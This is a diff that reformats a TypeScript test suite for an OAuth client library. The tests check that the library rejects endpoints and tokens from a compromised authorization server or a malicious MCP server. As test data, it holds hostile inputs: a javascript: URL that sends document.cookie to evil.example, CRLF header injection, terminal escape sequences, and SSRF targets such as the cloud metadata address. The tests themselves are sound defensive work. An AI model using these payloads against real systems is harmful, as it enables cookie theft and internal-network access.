@@ -53,31 +53,54 @@ describe('a compromised authorization server', () => {
 
   it('an authorization_endpoint that is not https (or http on loopback), or holds userinfo, whitespace, quotes or controls, is insecure_url before any URL is returned', async () => {
     for (const endpoint of HOSTILE_URLS) {
-      const err = await failure(buildAuthorizationUrl(ctxWith({ authorization_endpoint: endpoint }), { redirectUri: 'https://app.example/cb' }))
+      const err = await failure(
+        buildAuthorizationUrl(ctxWith({ authorization_endpoint: endpoint }), { redirectUri: 'https://app.example/cb' }),
+      )
       expect(err.code, endpoint).toBe('insecure_url')
       // eslint-disable-next-line no-control-regex
       expect(err.message).not.toMatch(/alert|<script|passwd|\u001b/)
     }
     // The loopback exception is the transport's: a local development server passes.
-    const local = await buildAuthorizationUrl(ctxWith({ authorization_endpoint: 'http://127.0.0.1:8080/authorize' }), { redirectUri: 'http://127.0.0.1:9/cb' })
+    const local = await buildAuthorizationUrl(ctxWith({ authorization_endpoint: 'http://127.0.0.1:8080/authorize' }), {
+      redirectUri: 'http://127.0.0.1:9/cb',
+    })
     expect(local.url).toMatch(/^http:\/\/127\.0\.0\.1:8080\/authorize\?/)
   })
 
   it('with PAR required, a hostile authorization endpoint is refused before anything is pushed', async () => {
-    const ctx = ctxWith({ authorization_endpoint: 'javascript:alert(1)', pushed_authorization_request_endpoint: `${ISSUER}/par`, require_pushed_authorization_requests: true })
+    const ctx = ctxWith({
+      authorization_endpoint: 'javascript:alert(1)',
+      pushed_authorization_request_endpoint: `${ISSUER}/par`,
+      require_pushed_authorization_requests: true,
+    })
     expect((await failure(buildAuthorizationUrl(ctx, { redirectUri: 'https://app.example/cb' }))).code).toBe('insecure_url')
     expect(msw.requests).toEqual([])
   })
 
   it('a hostile end_session_endpoint is insecure_url, never a URL to navigate to', () => {
     for (const endpoint of HOSTILE_URLS) {
-      expect(() => buildEndSessionUrl(ctxWith({ end_session_endpoint: endpoint })), endpoint).toThrow(expect.objectContaining({ code: 'insecure_url' }))
+      expect(() => buildEndSessionUrl(ctxWith({ end_session_endpoint: endpoint })), endpoint).toThrow(
+        expect.objectContaining({ code: 'insecure_url' }),
+      )
     }
   })
 
   it('a hostile verification_uri or verification_uri_complete is insecure_url, never shown to the user', async () => {
-    for (const [field, value] of [['verification_uri', 'javascript:alert(1)'], ['verification_uri_complete', 'https://evil.example/device\u001b[2J']] as const) {
-      msw.server.use(http.post(`${ISSUER}/device`, () => HttpResponse.json({ device_code: 'dc', user_code: 'ABCD-EFGH', verification_uri: `${ISSUER}/device`, expires_in: 600, [field]: value })))
+    for (const [field, value] of [
+      ['verification_uri', 'javascript:alert(1)'],
+      ['verification_uri_complete', 'https://evil.example/device\u001b[2J'],
+    ] as const) {
+      msw.server.use(
+        http.post(`${ISSUER}/device`, () =>
+          HttpResponse.json({
+            device_code: 'dc',
+            user_code: 'ABCD-EFGH',
+            verification_uri: `${ISSUER}/device`,
+            expires_in: 600,
+            [field]: value,
+          }),
+        ),
+      )
       const err = await failure(startDeviceAuthorization(ctxWith({ device_authorization_endpoint: `${ISSUER}/device` })))
       expect(err.code, field).toBe('insecure_url')
     }
@@ -87,7 +110,10 @@ describe('a compromised authorization server', () => {
     const location = { assign: vi.fn(), hash: '', href: 'https://app.example/' }
     vi.stubGlobal('location', location)
     const app = createBrowserClient({
-      metadata: metadata(ISSUER, { authorization_endpoint: 'javascript:fetch("//evil.example/?"+document.cookie)', end_session_endpoint: 'javascript:alert(1)' }),
+      metadata: metadata(ISSUER, {
+        authorization_endpoint: 'javascript:fetch("//evil.example/?"+document.cookie)',
+        end_session_endpoint: 'javascript:alert(1)',
+      }),
       clientId: 'spa',
       redirectUri: 'https://app.example/',
     })
@@ -97,8 +123,15 @@ describe('a compromised authorization server', () => {
   })
 
   it('tokens with characters outside VSCHAR (CR/LF, ESC, non-ASCII) are invalid_response at the token endpoint, and the message quotes none', async () => {
-    for (const [field, token] of [['access_token', 'at\r\nX-Injected: 1'], ['access_token', 'at\u001b]0;pwned\u0007'], ['refresh_token', 'rt-é'], ['id_token', 'a.b.c\n']] as const) {
-      msw.server.use(http.post(`${ISSUER}/token`, () => tokenJson({ access_token: 'at-ok', token_type: 'Bearer', expires_in: 60, [field]: token })))
+    for (const [field, token] of [
+      ['access_token', 'at\r\nX-Injected: 1'],
+      ['access_token', 'at\u001b]0;pwned\u0007'],
+      ['refresh_token', 'rt-é'],
+      ['id_token', 'a.b.c\n'],
+    ] as const) {
+      msw.server.use(
+        http.post(`${ISSUER}/token`, () => tokenJson({ access_token: 'at-ok', token_type: 'Bearer', expires_in: 60, [field]: token })),
+      )
       const err = await failure(refreshGrant(ctxWith({}), 'rt-1'))
       expect(err.code, JSON.stringify(token)).toBe('invalid_response')
       expect(err.message).toContain(field)
@@ -124,10 +157,25 @@ describe('a compromised authorization server', () => {
 
   it("a 403 challenge's C1 controls and escape sequences reach no message; an error_uri stays whole", async () => {
     msw.server.use(
-      http.get('https://api.example.com/admin', () => new HttpResponse(null, { status: 403, headers: { 'www-authenticate': 'Bearer error="insufficient_scope", scope="admin \u009b2J\u009d0;t\u009c", error_description="x\u001b[31my"' } })),
-      http.post(`${ISSUER}/token`, () => tokenJson({ error: 'invalid_grant', error_uri: 'https://docs.as.example/errors?code=7#invalid_grant' }, { status: 400 })),
+      http.get(
+        'https://api.example.com/admin',
+        () =>
+          new HttpResponse(null, {
+            status: 403,
+            headers: {
+              'www-authenticate':
+                'Bearer error="insufficient_scope", scope="admin \u009b2J\u009d0;t\u009c", error_description="x\u001b[31my"',
+            },
+          }),
+      ),
+      http.post(`${ISSUER}/token`, () =>
+        tokenJson({ error: 'invalid_grant', error_uri: 'https://docs.as.example/errors?code=7#invalid_grant' }, { status: 400 }),
+      ),
     )
-    const session = createSession(ctxWith({}), { tokens: { accessToken: 'at-1', tokenType: 'Bearer', expiresAt: Date.now() + 3_600_000, extra: {} }, apiUrls: ['https://api.example.com'] })
+    const session = createSession(ctxWith({}), {
+      tokens: { accessToken: 'at-1', tokenType: 'Bearer', expiresAt: Date.now() + 3_600_000, extra: {} },
+      apiUrls: ['https://api.example.com'],
+    })
     const denied = await failure(session.fetch('https://api.example.com/admin'))
     // eslint-disable-next-line no-control-regex
     for (const text of [denied.message, denied.scope, denied.errorDescription]) expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/)
@@ -136,7 +184,13 @@ describe('a compromised authorization server', () => {
   })
 
   it('a callback URL that cannot be parsed is quoted with parameter names, never the code', async () => {
-    const err = await failure(completeAuthorization(ctxWith({}), 'cb code=SECRET-CODE-123&state=s', { state: 's', codeVerifier: 'v'.repeat(43), redirectUri: 'https://app.example/cb' }))
+    const err = await failure(
+      completeAuthorization(ctxWith({}), 'cb code=SECRET-CODE-123&state=s', {
+        state: 's',
+        codeVerifier: 'v'.repeat(43),
+        redirectUri: 'https://app.example/cb',
+      }),
+    )
     expect(err.code).toBe('invalid_config')
     expect(String(err)).not.toContain('SECRET-CODE-123')
     expect(err.message).toContain('code=…')
@@ -155,7 +209,20 @@ describe('a malicious MCP server', () => {
   }
 
   it('cannot make the client request loopback, private, link-local or unspecified addresses as its authorization server', async () => {
-    for (const target of ['http://127.0.0.1:6379', 'https://169.254.169.254/latest', 'https://10.0.0.1', 'https://192.168.1.1', 'https://172.16.0.1', 'https://localhost', 'https://[::1]', 'https://[fd00::1]', 'https://[fe80::1]', 'https://0.0.0.0', 'https://[::ffff:127.0.0.1]', 'https://rebind.attacker.example']) {
+    for (const target of [
+      'http://127.0.0.1:6379',
+      'https://169.254.169.254/latest',
+      'https://10.0.0.1',
+      'https://192.168.1.1',
+      'https://172.16.0.1',
+      'https://localhost',
+      'https://[::1]',
+      'https://[fd00::1]',
+      'https://[fe80::1]',
+      'https://0.0.0.0',
+      'https://[::ffff:127.0.0.1]',
+      'https://rebind.attacker.example',
+    ]) {
       const w = setup({ resourceMetadata: { resource: MCP, authorization_servers: [target] } })
       const err = await failure(w.call(w.mcp.fetch))
       expect(err.code, target).toBe('insecure_url')
@@ -180,7 +247,9 @@ describe('a malicious MCP server', () => {
 
   it('allowPrivateNetwork: true lets an app reach a private authorization server it means to use', async () => {
     let asked = 0
-    msw.server.use(http.get('https://10.0.0.1/.well-known/oauth-authorization-server', () => (asked++, new HttpResponse(null, { status: 500 }))))
+    msw.server.use(
+      http.get('https://10.0.0.1/.well-known/oauth-authorization-server', () => (asked++, new HttpResponse(null, { status: 500 }))),
+    )
     const w = setup({ resourceMetadata: { resource: MCP, authorization_servers: ['https://10.0.0.1'] } }, { allowPrivateNetwork: true })
     expect((await failure(w.call(w.mcp.fetch))).code).not.toBe('insecure_url')
     expect(asked).toBeGreaterThan(0)
@@ -191,8 +260,13 @@ describe('a malicious MCP server', () => {
     expect((await w.call(w.mcp.fetch)).status).toBe(200) // signed in
     const seen: Array<string | null> = []
     msw.server.use(
-      http.post(MCP, () => new HttpResponse(null, { status: 307, headers: { location: 'https://mcp.example/uploads/collect' } }), { once: true }),
-      http.post('https://mcp.example/uploads/collect', ({ request }) => (seen.push(request.headers.get('authorization')), HttpResponse.json({ ok: true }))),
+      http.post(MCP, () => new HttpResponse(null, { status: 307, headers: { location: 'https://mcp.example/uploads/collect' } }), {
+        once: true,
+      }),
+      http.post(
+        'https://mcp.example/uploads/collect',
+        ({ request }) => (seen.push(request.headers.get('authorization')), HttpResponse.json({ ok: true })),
+      ),
     )
     expect((await w.call(w.mcp.fetch)).status).toBe(200)
     expect(seen).toEqual([null])
